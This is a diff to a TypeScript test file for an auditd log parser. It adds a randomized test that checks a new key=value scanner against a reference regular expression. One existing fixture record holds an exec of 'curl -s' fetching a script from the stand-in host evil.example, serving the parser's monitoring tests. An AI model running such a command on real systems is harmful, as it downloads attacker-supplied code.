@@ -1,6 +1,6 @@
 import { describe, it, expect } from 'vitest';
 import { readFileSync } from 'node:fs';
-import { parseAuditLine, isAuditLine } from './auditd.js';
+import { parseAuditLine, isAuditLine, splitKeyValues } from './auditd.js';
 import { AuditAssembler, type AuditGroup } from './audit-group.js';
 import { auditLogFields, auditExec } from './audit-events.js';
 
@@ -47,5 +47,33 @@ describe('auditd records', () => {
     expect(auditExec(gs[0]!)).toMatchObject({ pid: 4001, ppid: 4000, uid: 1000, exe: '/usr/bin/curl', argv: ['curl', '-s', 'http://evil.example/x.sh'], cwd: '/home/alice', tty: 'pts/0', sessionId: 3, timeNs: 1_700_000_000_123_000_000n });
     expect(auditExec(gs[1]!)).toBeUndefined();
     expect(auditExec(gs[2]!)).toMatchObject({ argv: ['python3', '-cprint(1)'], sessionId: 0, tty: '' });
+  });
+});
+
+describe('splitKeyValues scan', () => {
+  /** The regular expression the scanner replaced, kept here as the reference it must agree with. */
+  function reference(text: string, out: Record<string, string> = {}): Record<string, string> {
+    for (const m of text.matchAll(/([\w\-[\]]+)=("([^"]*)"|'([^']*)'|(\S*))/g)) {
+      if (m[4] !== undefined && m[1] === 'msg') {
+        reference(m[4], out);
+        continue;
+      }
+      out[m[1]!] = m[3] ?? m[4] ?? m[5] ?? '';
+    }
+    return out;
+  }
+
+  it('agrees with the regular-expression split on real records and on random text', () => {
+    const samples = [
+      'arch=c000003e syscall=59 success=yes exit=0 a0=55d0 items=2 ppid=10 pid=11 comm="cat" exe="/usr/bin/cat" key=(null)',
+      "pid=1 uid=0 auid=1000 ses=3 msg='op=PAM:session_open grantors=pam_unix acct=\"root\" exe=\"/usr/bin/sudo\" res=success'",
+      'a="unterminated b=c', "x='open d=e", 'key= next=1 =lonely a-b[0]=v foo:bar=baz', '',
+    ];
+    const alphabet = ['a', 'b', '=', ' ', '"', "'", '-', '[', ']', ':', 'msg', '0', '\t'];
+    let seed = 7;
+    const rnd = () => (seed = (seed * 1103515245 + 12345) % 2 ** 31) / 2 ** 31;
+    for (let k = 0; k < 3000; k++) samples.push(Array.from({ length: 1 + Math.floor(rnd() * 30) }, () => alphabet[Math.floor(rnd() * alphabet.length)]).join(''));
+    // Without hex-decodable keys both sides leave values as they are.
+    for (const s of samples) expect(splitKeyValues(s, 10_000, {}, false)).toEqual(reference(s));
   });
 });
